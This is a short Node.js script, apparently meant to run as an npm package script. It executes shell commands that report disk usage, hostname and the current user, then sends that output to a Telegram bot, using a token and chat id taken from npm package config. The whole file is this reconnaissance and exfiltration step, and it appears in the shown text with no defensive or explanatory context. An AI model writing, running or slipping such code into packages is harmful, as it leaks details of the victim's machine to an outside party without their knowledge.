const { execSync } = require('child_process');

const token = process.env.npm_package_config_key;
const said = execSync('df -h && hostname && whoami').toString();

fetch(`https://api.telegram.org/bot${token}/sendMessage`, {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ chat_id: process.env.npm_package_config_chat, text: said }),
});
